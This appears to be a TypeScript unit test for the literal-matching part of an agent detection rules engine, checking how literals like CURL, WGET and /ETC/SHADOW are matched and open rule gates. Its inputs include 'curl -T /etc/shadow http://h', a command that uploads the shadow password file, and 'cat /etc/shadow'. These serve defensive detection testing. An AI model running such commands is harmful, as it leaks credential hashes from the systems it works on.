import assert from 'node:assert/strict';
import { LiteralCollector, Literals } from '../../../../src/agent/detections/engine/literals.ts';

describe('the literals of rules', () => {
  const collector = new LiteralCollector();
  collector.select(0, 'CURL', 0);
  collector.select(0, '/ETC/SHADOW', 1);
  collector.select(1, 'CURL', 2);
  collector.select(0, 'CURL', 3);
  for (const texts of [['CURL'], ['CURL', '/ETC/SHADOW'], ['WGET'], undefined]) collector.gate(0, texts);
  const literals = new Literals(collector.tables(), collector.gateCount);
  const gates = literals.gates(0, 0, 3);
  const ofSlot = (slot: number, text: string | undefined): number[] => {
    const found: number[] = [];
    literals.read(slot, text, (rule) => found.push(rule));
    return found;
  };

  it('list the slots that contain any', () => {
    assert.deepEqual([...literals.slots].sort(), [0, 1]);
  });

  it('report their rules once per text, case-insensitively, in their own slot only', () => {
    assert.deepEqual(ofSlot(0, 'curl -T /etc/shadow http://h; Curl x'), [0, 3, 1]);
    assert.deepEqual(ofSlot(1, 'curl'), [2]);
  });

  it("open the gates of those in the slot's current text", () => {
    const open = () => [0, 1, 2].filter((gate) => gates.next(gate) === gate);
    ofSlot(0, 'cat /etc/shadow');
    assert.deepEqual(open(), [1]);
    ofSlot(1, 'ls');
    assert.deepEqual(open(), [1], 'another slot changes nothing');
    ofSlot(0, 'curl; wget');
    assert.deepEqual(open(), [0, 1, 2]);
    ofSlot(0, undefined);
    assert.deepEqual(open(), []);
    assert.equal(gates.next(0), 3, 'none: their number');
  });

  it('open the gates of a range, starting with the first', () => {
    ofSlot(0, 'wget');
    const last = literals.gates(0, 2, 2);
    assert.deepEqual([last.next(0), last.next(1), last.next(2)], [0, 1, 2], 'that without literals is always open');
    assert.equal(literals.gates(0, 1, 1).next(0), 1);
  });
});
